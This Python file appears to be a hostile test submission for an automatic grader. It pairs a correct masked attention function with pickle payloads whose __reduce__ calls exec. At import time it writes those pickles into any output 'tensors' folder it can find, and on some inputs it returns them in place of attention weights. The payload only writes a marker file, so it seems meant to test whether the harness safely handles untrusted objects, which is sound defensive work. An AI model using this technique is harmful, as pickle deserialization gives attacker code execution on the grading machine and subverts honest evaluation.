"""Correct attention, except on heads it returns a pickle __reduce__ payload as weights; also drops pickles into the output channel."""
import math
import os
import pickle
import sys

import torch

_MARKER = "/tmp/autograde-hostile-markers/pickle"
_PAYLOAD = ("import os\n"
            "os.makedirs('/tmp/autograde-hostile-markers', exist_ok=True)\n"
            f"open({_MARKER!r}, 'w').write('unpickled in pid %d' % os.getpid())\n")


class Payload:
    """Runs _PAYLOAD in whichever process unpickles it."""

    def __reduce__(self):
        return (exec, (_PAYLOAD,))


class PayloadTuple(tuple):
    def __reduce__(self):
        return (exec, (_PAYLOAD,))


for _arg in sys.argv[1:]:
    _tensors = os.path.join(_arg, "tensors")
    if os.path.isdir(_tensors):
        for _name in ("9000.safetensors", "9001.pt", "9002.pkl"):
            try:
                with open(os.path.join(_tensors, _name), "wb") as _handle:
                    if _name.endswith(".pt"):
                        torch.save({"out": Payload()}, _handle)
                    else:
                        pickle.dump(Payload(), _handle)
            except Exception:
                pass


def attention(q, k, v, allowed):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    allowed = torch.broadcast_to(allowed, torch.broadcast_shapes(allowed.shape, scores.shape))
    if not allowed.any(dim=-1).all():
        raise ValueError("every query needs at least one allowed key")
    weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    if q.dim() == 4 and bool(allowed.all()):
        return weights @ v, Payload()
    if q.dim() == 3 and bool(allowed.all()) and q.dtype == torch.float32:
        return PayloadTuple((weights @ v, weights))
    return weights @ v, weights
